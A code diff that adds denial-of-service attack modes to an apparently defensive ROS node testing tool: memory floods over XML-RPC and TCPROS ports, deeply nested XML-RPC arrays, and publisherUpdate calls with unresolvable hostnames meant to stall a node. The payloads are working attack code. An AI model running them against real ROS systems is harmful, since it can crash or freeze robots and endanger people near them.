@@ -6,6 +6,9 @@ told       the same, but tells NODE of the publisher itself (XML-RPC publisherUp
 linger     announced, the connection reset instead of closed
 shutdown   asks NODE to shut down (XML-RPC), COUNT times
 multicall  sends NODE a call that calls itself
+flood      sends NODE's two ports COUNT megabytes in every way that asks for room
+names      tells NODE of a publisher on a host with a name of COUNT letters, and asks for its process meanwhile
+deep       sends NODE a call of COUNT arrays within one another
 service    calls a service, whatever its type, with these bytes as request
 
 Prints one line `connected N` or the answers."""
@@ -15,6 +18,7 @@ import socket
 import struct
 import sys
 import threading
+import time
 import xmlrpc.client
 import xmlrpc.server
 
@@ -23,6 +27,7 @@ from geometry_msgs.msg import WrenchStamped
 TOPIC = "/spidar/wrench_command"
 PUSH = 5.0    # [N]
 WAIT = float(os.environ.get("STRANGER_WAIT", "0.05"))  # [s] for a connection to come; no longer than it takes
+FLOOD_TIME = 20.0  # [s]
 LAST_WAIT = 2.0  # [s] for the last: a machine may be busy
 
 
@@ -110,6 +115,69 @@ def multicall(node):
         print(error)
 
 
+def ports_of(name):
+    """(host, port) of a node's calls and of its connections."""
+    master = xmlrpc.client.ServerProxy(os.environ["ROS_MASTER_URI"])
+    calls = master.lookupNode("/stranger", name)[2]
+    topic = next(t for t, nodes in master.getSystemState("/stranger")[2][0] if name in nodes)
+    way = xmlrpc.client.ServerProxy(calls).requestTopic("/stranger", topic, [["TCPROS"]])[2]
+    host, port = calls[len("http://"):].rstrip("/").split(":")
+    return (host, int(port)), (way[1], way[2])
+
+
+def flood(count, node):
+    """Megabytes that the node's machine took of each attack; no attack takes longer than FLOOD_TIME."""
+    calls, connections = ports_of(node)
+    head = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\n"
+    size = count << 20
+    attacks = {"told": (calls, head + b"Content-length: %d\r\n\r\n" % size, 1), "endless header": (calls, head + b"X: ", 1),
+               "more than told": (calls, head + b"Content-length: 1000\r\n\r\n", 1),
+               "many": (calls, head + b"Content-length: 900000\r\n\r\n", 200),
+               "connection": (connections, struct.pack("<I", min(size, 999_000_000)), 1)}
+    for name, (address, begin, times) in attacks.items():
+        links, sent, end = [], 0, time.monotonic() + FLOOD_TIME
+        for _ in range(times):
+            links.append(socket.create_connection(address, timeout=2))
+            try:
+                links[-1].sendall(begin)
+            except OSError:
+                pass
+        while links and sent < size and time.monotonic() < end:
+            for link in list(links):
+                try:
+                    sent += link.send(b"x" * (1 << 20 if times == 1 else 4000))
+                except OSError:
+                    links.remove(link)
+        for link in links:
+            link.close()
+        print(f"sent {sent / (1 << 20):.0f} MB: {name}", flush=True)
+
+
+def deep(count, node):
+    host, port = ports_of(node)[0]
+    body = b"<methodCall><methodName>getPid</methodName><params><param>" + b"<value><array><data>" * count
+    with socket.create_connection((host, port), timeout=10) as link:
+        link.sendall(b"POST / HTTP/1.1\r\nContent-length: %d\r\n\r\n" % len(body) + body)
+        try:
+            print("answered", len(link.recv(100)))
+        except OSError as error:
+            print(error)
+
+
+def names(letters, node):
+    """The slowest of some calls after the node was told of the publisher [s]."""
+    host = "no.such.host"[:letters] if letters < 100 else "x" * letters
+    slowest = 0.0
+    asked = node_of(node)
+    for topic in (TOPIC, "/tf", "/clock"):
+        threading.Thread(target=lambda t=topic: node_of(node).publisherUpdate("/master", t, [f"http://{host}:11/"]), daemon=True).start()
+        time.sleep(0.2)
+        begin = time.monotonic()
+        asked.getPid("/stranger")
+        slowest = max(slowest, time.monotonic() - begin)
+    print(f"slowest {slowest:.3f}")
+
+
 def receive(link):
     size = struct.unpack("<I", link.recv(4, socket.MSG_WAITALL))[0]
     return link.recv(size, socket.MSG_WAITALL) if size else b""
@@ -150,6 +218,12 @@ def main():
     elif attack == "shutdown":
         answers = [node_of(node).shutdown("/stranger", "go away") for _ in range(count)]
         print(answers[-1])
+    elif attack == "flood":
+        flood(count, node)
+    elif attack == "names":
+        names(count, node)
+    elif attack == "deep":
+        deep(count, node)
     else:
         multicall(node)
 
